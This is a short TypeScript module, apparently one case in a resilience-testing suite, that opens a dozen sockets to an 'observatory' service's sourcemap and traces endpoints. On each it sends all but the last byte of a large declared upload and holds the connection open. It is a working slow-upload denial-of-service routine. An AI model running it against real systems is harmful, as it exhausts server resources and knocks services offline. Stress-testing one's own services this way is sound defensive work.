import { setTimeout as delay } from 'node:timers/promises'
import { type Attack, open } from './attack.ts'

const uploads = 12
const declaredBytes = 64 * 1024 * 1024
const holdMs = 8_000

/** Sends all but the last byte of a large body, many times. */
export const attack: Attack = {
  name: 'unfinished uploads to the observatory',
  run: async (target) => {
    const body = Buffer.alloc(declaredBytes - 1, ' ')
    const sockets = Array.from({ length: uploads }, (_, n) => {
      const socket = open(target, target.observatory).resume()
      const path = n % 2 === 0 ? '/api/1/sourcemap' : '/v1/traces'
      const length = n % 2 === 0 ? declaredBytes : 20 * 1024 * 1024
      socket.write(
        `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`,
      )
      socket.write(body.subarray(0, length - 1))
      return socket
    })
    await delay(holdMs)
    for (const socket of sockets) socket.destroy()
    return { uploads, declaredBytes }
  },
}
